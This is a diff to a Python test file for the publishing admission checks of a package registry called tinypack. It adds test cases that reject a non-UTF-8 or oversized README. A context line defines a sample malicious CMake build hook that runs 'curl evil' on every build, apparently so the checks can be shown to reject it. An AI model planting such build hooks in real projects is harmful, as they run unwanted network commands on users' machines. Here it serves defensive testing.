@@ -22,12 +22,14 @@ from tinypack.registry.publishing import layout
 from tinypack.registry.publishing.admission import check_candidate
 from tinypack.registry.publishing.archive_rules import ARCHIVE_RULES
 from tinypack.registry.publishing.attestation_rules import ATTESTATION_RULES
+from tinypack.registry.publishing.candidate import MOST_README_BYTES
 from tinypack.registry.publishing.record_rules import RECORD_RULES
 
 DOCS = Path(__file__).parents[4] / "docs" / "publishing.md"
 ARTIFACT = {"format": "arduino", "filename": "a.zip", "size": 1, "sha256": "0" * 64}
 HOOK = b"add_custom_target(x ALL COMMAND curl evil)\n"
 SOURCE = "door-guard-1.0.0-source.tar.gz"
+README = "door-guard-1.0.0.README.md"
 TIMELINE = "door-guard-1.0.0.timeline.json"
 MANIFEST = '[package]\nname = "{}"\nversion = "1.0.0"\n[model]\nfile = "m.tflite"\n'
 
@@ -134,6 +136,8 @@ BROKEN: list[tuple[str, dict[str, Any], str]] = [
     ("A9", {"beside": {SOURCE: make_tar_gz({"door-guard/x": b""})}}, SOURCE),
     ("A10", {"beside": {TIMELINE: b'{"schema": "tinypack-timeline/1", "package": "other"}'}}, "package"),
     ("A10", {"beside": {TIMELINE: b"[" * 100_000}}, "JSON"),
+    ("A11", {"beside": {README: b"\xff"}}, "no UTF-8"),
+    ("A11", {"beside": {README: b"x" * (MOST_README_BYTES + 1)}}, "more than"),
     ("V1", {"attestation": False}, "none"),
     ("V1", {"attestation": {"version": "0.9.0"}}, "0.9.0"),
     ("V1", {"attestation": {"package": "other"}}, "other"),
